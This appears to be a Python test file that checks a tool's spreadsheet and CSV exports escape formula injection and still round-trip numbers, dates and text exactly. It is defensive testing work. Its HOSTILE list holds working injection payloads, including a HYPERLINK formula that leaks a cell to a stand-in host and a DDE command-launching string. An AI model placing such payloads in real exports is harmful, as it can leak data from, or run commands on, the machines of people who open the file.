"""Exports carry no live formula, and read back as written (OWASP's "CSV injection").

Text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a string cell in a
workbook and an apostrophe-prefixed cell in CSV; the import's reader (`open_table`) removes that
apostrophe. The neighbours are checked as hard: numbers (negative ones included) stay number
cells, dates stay date cells, and text that merely contains those characters, or begins with an
apostrophe and a letter, is written byte for byte as it is.
"""

import csv
import io
from datetime import UTC, datetime
from itertools import chain
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from passerelle.audit.entries import RecordedEntry, RunMark
from passerelle.audit.timeline import story, to_csv
from passerelle.cli.report_workbook import write_report
from passerelle.cli.workbooks import Sheet, csv_text, write_xlsx
from passerelle.intake.sheets import Cell, open_table
from schemas import HistoryEntry, KpiFilters, KpiReport, Stage
from schemas.kpis import PilotKpi

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "'=1+1",  # an apostrophe already there: one more is written, one is taken off
    "''-2",
]
TRIGGERS = tuple("=+-@\t\r")
PROFILE = settings(max_examples=150, deadline=None, database=None)
# What a workbook or a UTF-8 CSV can hold: no control characters but the tab, no surrogates, and
# no letters of the import's wrong-encoding signs (`Ã©`), which have a test of their own.
ALPHABET = st.characters(
    exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffffÃÂâ", include_characters="\t"
)
PREFIXES = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'-", "\t", "a", " ", "1"])
TEXT = st.tuples(PREFIXES, st.text(ALPHABET, max_size=20)).map("".join).filter(lambda t: t.strip() != "")
NUMBER = st.integers(-(10**9), 10**9) | st.floats(-1e9, 1e9, allow_nan=False).filter(lambda f: f != 0)
INSTANT = st.datetimes(datetime(1990, 1, 1), datetime(2090, 1, 1)).map(lambda d: d.replace(microsecond=0))
VALUE = st.one_of(TEXT, NUMBER, INSTANT)


def workbook_cells(path: Path) -> list[list[object]]:
    """Each data row of the workbook's first sheet as openpyxl's cells, read as Excel would."""
    sheet = load_workbook(path).worksheets[0]
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def read_back(path: Path, **how: str) -> list[list[Cell]]:
    """The data rows as `passerelle import` reads them."""
    with open_table(path, **how) as table:  # type: ignore[arg-type]
        return [cells for number, cells in table.rows if number > 1]


def test_text_that_starts_a_formula_is_a_string_cell_of_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(path, [Sheet("Collaborations", ["corporate"], [[v] for v in HOSTILE])])
    cells = [row[0] for row in workbook_cells(path)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)  # type: ignore[attr-defined]
    assert [c.value for c in cells] == HOSTILE  # type: ignore[attr-defined]
    assert [r[0] for r in read_back(path)] == HOSTILE


def test_text_that_starts_a_formula_is_escaped_in_csv_and_read_back_exactly(tmp_path: Path) -> None:
    values = HOSTILE
    for excel_fr, delimiter in ((False, ","), (True, ";")):
        text = csv_text(Sheet("Collaborations", ["corporate"], [[v] for v in values]), excel_fr=excel_fr)
        written = [r[0] for r in csv.reader(io.StringIO(text), delimiter=delimiter)][1:]
        assert not [c for c in written if c.startswith(TRIGGERS)], written
        assert written == ["'" + v for v in values]
        path = tmp_path / f"export-{excel_fr}.csv"
        path.write_text(text, encoding="utf-8-sig" if excel_fr else "utf-8", newline="")
        assert [r[0] for r in read_back(path, delimiter=delimiter)] == values


def test_the_report_workbook_names_a_hostile_programme_as_text(tmp_path: Path) -> None:
    programme = HOSTILE[0]
    report = KpiReport(filters=KpiFilters(programme=programme), collaborations=0, open=0, stalled=0,
                       stalled_ratio=None, deployed=0, declined=0, abandoned=0,
                       conversion_introduction_pilot=None, conversion_pilot_deployed=None, stages=[],
                       pilot_times=[PilotKpi(programme=programme, reached_pilot=0, poc_median_days=None,
                                             poc_p90_days=None, decided=0, open=0, decision_median_days=None,
                                             decision_p90_days=None, days_to_poc=[],
                                             days_pilot_to_decision=[])])  # fmt: skip
    path = tmp_path / "report.xlsx"
    write_report(report, path)
    book = load_workbook(path)
    for cell in (book["Summary"]["B2"], book["Time to PoC and to decision"]["A2"]):
        assert (cell.data_type, cell.value) == ("s", programme)


@PROFILE
@given(rows=st.lists(st.lists(VALUE, min_size=3, max_size=3), min_size=1, max_size=5))
def test_every_value_reads_back_as_written_and_numbers_and_dates_keep_their_type(
    rows: list[list[object]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("round")
    sheet = Sheet("Collaborations", ["a", "b", "c"], rows)
    write_xlsx(folder / "x.xlsx", [sheet])
    cells = chain.from_iterable(workbook_cells(folder / "x.xlsx"))
    for written, cell in zip(chain.from_iterable(rows), cells, strict=True):
        if isinstance(written, str):
            assert (cell.data_type, cell.value) == ("s", written)  # type: ignore[attr-defined]
        elif isinstance(written, datetime):
            assert cell.is_date and cell.value == written, (written, cell.value)  # type: ignore[attr-defined]
        else:  # to the 15 significant digits Excel keeps
            assert cell.data_type == "n" and cell.value == pytest.approx(written, rel=1e-14)  # type: ignore[attr-defined]
    (folder / "x.csv").write_text(csv_text(sheet), encoding="utf-8", newline="")
    assert read_back(folder / "x.csv", delimiter=",") == [[as_csv(v) for v in row] for row in rows]


def as_csv(value: object) -> str:
    """What the CSV holds for a value: ISO instants (a day alone at midnight), numbers as Python writes them."""
    if isinstance(value, datetime):
        midnight = (value.hour, value.minute, value.second) == (0, 0, 0)
        return value.date().isoformat() if midnight else value.isoformat() + "Z"
    return str(value)


@PROFILE
@given(text=TEXT.filter(lambda t: not t.lstrip("'").startswith(TRIGGERS)), number=NUMBER)
def test_near_misses_are_written_byte_for_byte(text: str, number: float) -> None:
    """Text that only contains the characters, or begins with apostrophes and anything else, and
    every number, negative ones included, are written exactly as they are."""
    for excel_fr, delimiter in ((False, ","), (True, ";")):
        out = csv_text(Sheet("S", ["a", "b"], [[text, number]]), excel_fr=excel_fr)
        cells = list(csv.reader(io.StringIO(out), delimiter=delimiter))[1]
        shown = f"{number:g}".replace(".", ",") if excel_fr and isinstance(number, float) else str(number)
        assert cells == [text, shown]


def test_the_audit_timeline_csv_writes_notes_and_actors_as_text() -> None:
    at = datetime(2026, 3, 2, 9, tzinfo=UTC)
    entries = [
        RecordedEntry(HistoryEntry(seq=1, kind="started", at=at, stage=Stage.INTRODUCTION, actor="system",
                                   note=HOSTILE[0]), "w", "r", 1, 5),
        RecordedEntry(HistoryEntry(seq=2, kind="milestone", at=at, stage=Stage.INTRODUCTION, actor=HOSTILE[1],
                                   milestone="kick-off", note=HOSTILE[2]), "w", "r", 1, 9),
    ]  # fmt: skip
    text = to_csv(story(entries, [RunMark(1, "r", at, None, None)]), [])
    cells = [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)], cells
    assert any(HOSTILE[0] in c for c in cells) and "'" + HOSTILE[1] in cells
